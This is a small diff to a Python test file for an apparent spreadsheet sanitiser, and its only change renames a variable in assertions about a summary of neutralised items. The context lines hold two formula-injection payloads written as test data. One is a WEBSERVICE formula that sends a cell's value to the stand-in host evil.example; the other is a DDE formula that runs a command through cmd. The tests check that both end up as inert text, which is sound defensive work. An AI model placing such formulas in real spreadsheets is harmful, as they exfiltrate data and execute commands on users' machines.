@@ -215,8 +215,8 @@ def test_what_reached_out_is_text_and_the_summary_shows_what_it_was(tmp_path: Pa
     assert workbook["Boxes"]["E2"].value == '=_xlfn.WEBSERVICE("http://evil.example/?p="&C2)'
     assert workbook["Boxes"]["E2"].data_type == "s"
     assert workbook["Lists"]["B1"].value == "=cmd|'/C calc'!A0"
-    told = notices(copy)
-    assert "3 formulas (Boxes!E2, Boxes!E3, Lists!B1), " in told
+    reported = notices(copy)
+    assert "3 formulas (Boxes!E2, Boxes!E3, Lists!B1), " in reported
     for what in (
         "5 links",
         "6 names",
@@ -226,7 +226,7 @@ def test_what_reached_out_is_text_and_the_summary_shows_what_it_was(tmp_path: Pa
         "1 chart",
         "1 query",
     ):
-        assert what in told
+        assert what in reported
 
 
 def test_harmless_formulas_names_links_and_rules_stay(tmp_path: Path) -> None:
